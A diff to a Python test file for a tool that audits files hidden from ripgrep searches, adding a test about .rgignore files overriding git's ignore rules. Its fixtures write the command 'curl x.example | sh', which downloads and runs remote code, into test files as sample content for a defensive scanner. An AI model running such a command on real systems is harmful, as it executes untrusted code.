@@ -31,6 +31,19 @@ class RgCurated(JobTest):
             self.assertNotIn(TOKEN, text)
             self.assertNotIn(TOKEN[5:20], text)
 
+    def test_an_rgignore_does_not_silence_what_is_said_of_gits_C38(self):
+        self.write("ignored.txt", f"{TOKEN}\n")
+        self.write("shown.txt", f"{TOKEN}\n")
+        self.write(".gitignore", "ignored.txt\n")
+        self.git("init", "-q")
+        hidden = {("ignored.txt", 0, "blinding-git-ignore")}
+        self.assertEqual(self.found(self.probe("rg_curated")[0]["blinding"]), hidden)  # the control
+        for text in ("!ignored.txt\n", "*\n"):  # takes the file out of what git's hide; claims that git's hide all
+            self.write("sub/.rgignore", text)
+            self.write(".rgignore", text)
+            found = self.found(self.probe("rg_curated")[0]["blinding"])
+            self.assertEqual({path for path, _, rule in found if rule == "blinding-git-ignore"}, {".rgignore"}, text)
+
     def test_names_with_newlines_and_no_utf8_are_reported_as_they_are(self):
         self.write(b"a\nb", "curl x.example | sh\n")
         self.write(b"\xff", "curl x.example | sh\n")
